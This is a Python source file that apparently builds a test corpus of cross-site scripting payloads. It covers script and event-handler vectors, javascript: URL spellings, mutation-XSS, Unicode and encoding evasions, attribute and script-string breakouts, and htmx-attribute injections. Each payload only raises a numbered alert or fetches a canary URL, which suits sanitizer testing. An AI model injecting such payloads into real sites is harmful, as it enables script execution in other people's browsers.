"""Texts that try to run in whoever's page shows them: vectors, in contexts, in spellings.

Each calls `alert` with its number, or asks for /canary, and marks each element that it makes with
the attribute `zz`, whose value holds its number too.
"""

from collections.abc import Callable, Iterator
from functools import cache
from html import escape
from typing import Final, NamedTuple
from urllib.parse import quote


class Payload(NamedTuple):
    """`frame` is a piece of HTML that, with the text in place of @, shows it as it is."""

    number: int
    frame: str
    text: str

    @property
    def raw(self) -> str:
        return self.frame.replace("@", self.text)


# In these, %c calls, %m marks, and %n is the number.
_CORE: Final = (
    "<script %m>%c</script>",
    "<img %m src=x onerror=%c>",
    "<svg %m onload=%c>",
    '<iframe %m srcdoc="<script>%c</script>">',
    "<details %m open ontoggle=%c>",
    "<a %m href=javascript:%c>x</a>",
)
_SCRIPTS: Final = (
    "<ScRiPt\n%m>%c</sCrIpT >",
    "<script/%m>%c</script>",
    "<script %m type=module>%c</script>",
    "<script %m src=data:text/javascript,%c></script>",
    "<script %m src=/canary/%n></script>",
    "<script %m src=//canary.invalid/%n></script>",
    "<script %m nonce=x>%c</script>",
    "<script %m>/*\n*/%c//</script>",
    "<<script %m>%c//<</script>",
    "<script %m>%c",
    "<noscript><b %m></noscript><script>%c</script>",
    "<svg><script %m>%c</script></svg>",
    "<svg><script %m href=data:,%c />",
    "<math><script %m>%c</script></math>",
)
_HANDLERS: Final = (
    *("img src=x:error", "img srcset=x:error", "image src=x:error", "video src=x:error"),
    *("audio src=x:error", "video><source src=x:error", "picture><img src=x:error"),
    *("input autofocus:focus", "select autofocus:focus", "textarea autofocus:focus"),
    *("button autofocus:focus", "a href=# tabindex=1 autofocus:focus", "b tabindex=1:focusin"),
    *("input type=image src=x:error", "input:input", "input:change", "form:submit", "form:reset"),
    *("object data=x:error", "embed src=/canary/%n:load", "iframe src=about::blank:load"),
    *("link rel=stylesheet href=/canary/%n:error", "style:load", "body:pageshow", "body:load"),
    *("svg:load", "svg><animate attributeName=x dur=1s:begin", "svg><set attributeName=x:begin"),
    *("svg><image href=x:error", "svg><g:click", "math:click", "mi:mouseover", "marquee:start"),
    *("p:click", "p:mouseover", "p:pointerenter", "p:wheel", "p:paste", "p:copy", "p:drop"),
    *("p draggable=true:dragstart", "p contenteditable:beforeinput", "p:keydown", "p:touchstart"),
    *("dialog open:close", "dialog open:cancel", "details:toggle", "p popover:beforetoggle"),
    *("p style=animation::x:animationstart", "p style=transition::1s:transitionend"),
    *("xss:click", "slot:slotchange", "meter:auxclick", "td:contextmenu", "li:dblclick"),
)
_OURS: Final = (
    "<x-live %m data-topic=messages hx-get=/canary/%n hx-trigger=load>",
    "<x-live %m onclick=%c><button>",
    "<x-copy %m data-text=x><button onclick=%c>",
    "<x-palette %m><button onclick=%c></x-palette>",
    "<x-composer %m><form onsubmit=%c><textarea>",
    "<x-paste %m onpaste=%c>",
    "<x-chart %m data-chart='{\"x\":1}' onclick=%c>",
    "<tr %m data-href=javascript:%c><td>",
    "<form %m data-confirm=x onsubmit=%c>",
)
_HTMX: Final = (
    "<b %m hx-get=/canary/%n hx-trigger=load>",
    "<b %m data-hx-get=/canary/%n hx-trigger=load>",
    "<b %m hx-post=/canary/%n hx-trigger=load hx-nonce=x>",
    "<b %m hx-on:click=%c>",
    "<b %m hx-on::load=%c>",
    "<b %m hx-on:htmx:after:init=%c>",
    "<b %m hx-get=/canary/%n hx-trigger=load hx-vals='js:{x:%c}'>",
    "<b %m hx-get=/canary/%n hx-trigger='load[%c]'>",
    "<b %m hx-headers='js:{x:%c}' hx-get=/canary/%n hx-trigger=load>",
    "<b %m hx-sse:connect=/canary/%n>",
    "<b %m hx-boost:inherited=true><a href=/canary/%n>",
    "<hx-partial %m hx-target=body><b>",
    "<b %m id=rows hx-swap-oob=true>",
    '<meta %m name=htmx-config content=\'{"x":"%c"}\'>',
)
_SINKS: Final = (
    "<a %m href=U>x</a>",
    "<iframe %m src=U>",
    "<form %m action=U><button>",
    "<form><button %m formaction=U>",
    "<svg><a %m xlink:href=U><text y=9>x",
    "<area %m href=U>",
)
_SPELLINGS: Final = (
    '"javascript:%c"',
    "'JaVaScRiPt:%c'",
    '" \x01javascript:%c"',
    '"java\tscript:%c"',
    '"javascript\n:%c"',
    "javascript&colon;%c",
    "&#106;avascript:%c",
    "&#x6A&#x61vascript:%c",
    "javascript://%0a%c",
    '"javascript:void(%c)"',
    "data:text/html,<script>%c</script>",
    "vbscript:%c",
)
_OTHER_SINKS: Final = (
    "<object %m data=javascript:%c>",
    "<embed %m src=javascript:%c>",
    "<base %m href=//canary.invalid/%n/><script src=x></script>",
    "<meta %m http-equiv=refresh content='0;url=javascript:%c'>",
    "<meta %m http-equiv=refresh content=0;/canary/%n>",
    "<img %m src=//canary.invalid/%n>",
    "<link %m rel=prefetch href=//canary.invalid/%n>",
    "<style %m>@import '/canary/%n';</style>",
    "<p %m style=background:url(/canary/%n)>",
    "<svg><use %m href='data:image/svg+xml,<svg id=x onload=%c />#x'>",
    "<iframe %m srcdoc='&lt;img src=x onerror=%c&gt;'>",
    "<svg><foreignObject><iframe %m onload=%c>",
)
_MUTATIONS: Final = (
    '<noscript><p title="</noscript><img %m src=x onerror=%c>">',
    '<svg></p><style><a id="</style><img %m src=x onerror=%c>">',
    '<math><mtext><table><mglyph><style><!--</style><a title="--&gt;&lt;img %m src onerror=%c">',
    "<form><math><mtext></form><form><mglyph><style></math><img %m src=x onerror=%c>",
    "<svg><style>&lt;img %m src=x onerror=%c&gt;</style>",
    '<svg><title><a title="</title><img %m src=x onerror=%c>">',
    '<math><annotation-xml encoding="text/html"><img %m src=x onerror=%c>',
    "<select><style></select><img %m src=x onerror=%c></style>",
    "<table><b %m onclick=%c><caption>",
    "<template><img %m src=x onerror=%c></template><img %m src=x onerror=%c>",
    '<img %m src="x` `<script>%c</script>"` `>',
    "<listing>&lt;img %m src=x onerror=%c&gt;</listing>",
    "<![CDATA[<img %m src=x onerror=%c>]]>",
    "<!--><img %m src=x onerror=%c>-->",
    "<!--[if gte IE 4]><script %m>%c</script><![endif]-->",
    '<?xml version="1.0"?><img %m src=x onerror=%c>',
    "</ z><img %m src=x onerror=%c>",
    '<a %m href="x"onclick=%c/>',
    "<img/ %m /src=x/onerror=%c//",
    "<img %m src=x onerror\n=\n%c>",
    "<img %m src=x oNeRrOr=%c>",
    "<img %m src=x onerror='%c'",
)
_UNICODE: Final = (
    *("<\0img %m src=x onerror=%c>", "<img\0 %m src=x onerror=%c>", "<img %m src=x onerror\0=%c>"),
    *("<img\x0c%m\x0csrc=x\x0conerror=%c>", "<img\x0b%m src=x onerror=%c>"),
    *("\ufeff<img %m src=x onerror=%c>", "\u202e<img %m src=x onerror=%c>\u202c"),
    *(
        "\uff1cimg %m src=x onerror=%c\uff1e",
        "<\u0131mg %m src=x onerror=%c>",
        "<\u017fcript %m>%c",
    ),
    *(
        "<\u200bimg %m src=x onerror=%c>",
        "<img\xa0%m src=x onerror=%c>",
        "\u2028<img %m src=x onerror=%c>",
    ),
    *(
        "<svg %m onload=\u2028%c>",
        "\U0001f469\u200d<img %m src=x onerror=%c>",
        "\u0338<b %m onclick=%c>",
    ),
    *(
        "\u2039script %m\u203a%c\u2039/script\u203a",
        "+ADw-script %m+AD4-%c+ADw-/script+AD4-",
        "\xbcscript %m\xbe%c\xbc/script\xbe",
    ),
)
# What ends the place where a text stands, and what stands around it there.
_BREAKOUTS: Final = (
    ('">', '<input value="@">'),
    ("'>", "<input value='@'>"),
    ("`>", '<input value="`@`">'),
    (" >", "<input value=@>"),
    ("</textarea>", "<textarea>@</textarea>"),
    ("</title>", "<title>@</title>"),
    ("</style>", "<style>@</style>"),
    ("</script>", "<script>var x = '@'</script>"),
    ("-->", "<!-- @ -->"),
    ("--!>", "<!-- @ -->"),
    ("]]>", "<svg><![CDATA[ @ ]]></svg>"),
    ("</xmp>", "<xmp>@</xmp>"),
    ("</template>", "<template>@</template>"),
    ("</select></p></pre>", "<pre><select>@</select></pre>"),
    ("</iframe>", "<iframe>@</iframe>"),
    ("</noembed></noframes>", "<noembed>@</noembed>"),
    ("</text></svg></math>", "<svg><text>@</text></svg>"),
    ("}]}</script>", '<script type="application/json">{"x": [{"y": "@"}]}</script>'),
    ("\n\ndata: ", "<pre>@</pre>"),
)
_ATTRIBUTES: Final = (
    ('" %m onfocus=%c autofocus x="', '<input value="@">'),
    ("' %m onfocus=%c autofocus x='", "<input value='@'>"),
    (" %m onfocus=%c autofocus ", "<input value=@>"),
    ('" %m onmouseover="%c" x="', '<a href="@">x</a>'),
    ("' %m onmouseover='%c' x='", "<a href='@'>x</a>"),
    ('"\n%m\nonclick\n=\n%c\nx="', '<p title="@">x</p>'),
    ('" %m style="animation:x" onanimationstart="%c', '<p title="@">x</p>'),
    ('x" %m onerror="%c', '<img src="@">'),
    ('" %m hx-on:click="%c', '<b title="@">x</b>'),
    ('" %m hx-get="/canary/%n" hx-trigger="load', '<b title="@">x</b>'),
    ('" %m srcdoc="<script>%c</script>', '<iframe title="@"></iframe>'),
    ('javascript:%c//" %m x="', '<a href="@">x</a>'),
)
_SCRIPT_STRINGS: Final = (
    ("';%c;//%m", "<script>var x = '@'</script>"),
    ('";%c;//%m', '<script>var x = "@"</script>'),
    ("\\';%c;//%m", "<script>var x = '\\@'</script>"),
    ("`;%c;//%m", "<script>var x = `@`</script>"),
    ("${%c}/*%m*/", "<script>var x = `@`</script>"),
    ("'-%c-'%m", "<script>var x = '@'</script>"),
    ("*/%c;/*%m", "<script>/* @ */</script>"),
    ("\n%c;//%m", "<script>// @\n</script>"),
    ("\u2028%c;//%m", "<script>// @\n</script>"),
    ("</script><script %m>%c//", "<script>var x = `@`</script>"),
    ("<!--<script>%m", "<script>var x = '@'</script>"),
    ("%c//%m", "<b onclick='@'>x</b>"),
    ("&apos;);%c;(&apos;%m", "<b onclick=\"String('@')\">x</b>"),
    ("{{constructor.constructor('%c')()}}%m", "<p>@</p>"),
    ("${{%c}}#{%c}<%= %c %>{% %c %}%m", "<p>@</p>"),
    ("\n\nevent: messages\ndata: <img %m src=x onerror=%c>\n\n", "<p>@</p>"),
    ("\r\n\r\n<img %m src=x onerror=%c>", "<p>@</p>"),
    ("}*{background:url(/canary/%n?%m)}", "<style>p{@</style>"),
)


def _coded(form: str) -> Callable[[str], str]:
    def code(text: str) -> str:
        return "".join(form.format(ord(char)) if char in "<>\"'=" else char for char in text)

    return code


# Spellings that some later step might undo after all was escaped.
_CODINGS: Final[tuple[Callable[[str], str], ...]] = (
    escape,
    lambda text: escape(escape(text)),
    lambda text: escape(text).replace(";", ""),
    _coded("&#{:07d};"),
    _coded("&#x{:x};"),
    _coded("\\x{:02x}"),
    _coded("\\u{:04x}"),
    _coded("%{:02X}"),
    _coded("%25{:02X}"),
    _coded("={:02X}"),
    quote,
    lambda text: text.replace("<", "<<"),
    lambda text: text.replace("<", "<scr<script>ipt><"),
)


@cache
def payloads() -> tuple[Payload, ...]:
    """Each is another text, even without its number."""
    made = dict.fromkeys(_made())
    return tuple(
        Payload(number, frame, coding(_filled(text, number)))
        for number, (frame, text, coding) in enumerate(made, 1000)
    )


def _made() -> Iterator[tuple[str, str, Callable[[str], str]]]:
    plain = (*_CORE, *_SCRIPTS, *map(_handler, _HANDLERS), *_OURS, *_HTMX, *_OTHER_SINKS)
    in_sinks = (sink.replace("U", spelling) for spelling in _SPELLINGS for sink in _SINKS)
    for text in (*plain, *_MUTATIONS, *_UNICODE, *in_sinks):
        yield "<p>@</p>", text, str
    for coding in _CODINGS:
        yield from (("<p>@</p>", text, coding) for text in _CORE)
    for end, frame in _BREAKOUTS:
        yield from ((frame, end + text, str) for text in _CORE)
    for text, frame in (*_ATTRIBUTES, *_SCRIPT_STRINGS):
        yield frame, text, str


def _handler(told: str) -> str:
    """`p:click` becomes `<p %m onclick=%c>`."""
    element, _, event = told.replace("::", "\0").partition(":")
    return f"<{element} %m on{event}=%c>".replace("\0", ":")


def _filled(text: str, number: int) -> str:
    told = text.replace("%c", f"alert({number})").replace("%m", f"zz=zz{number}")
    return told.replace("%n", str(number))
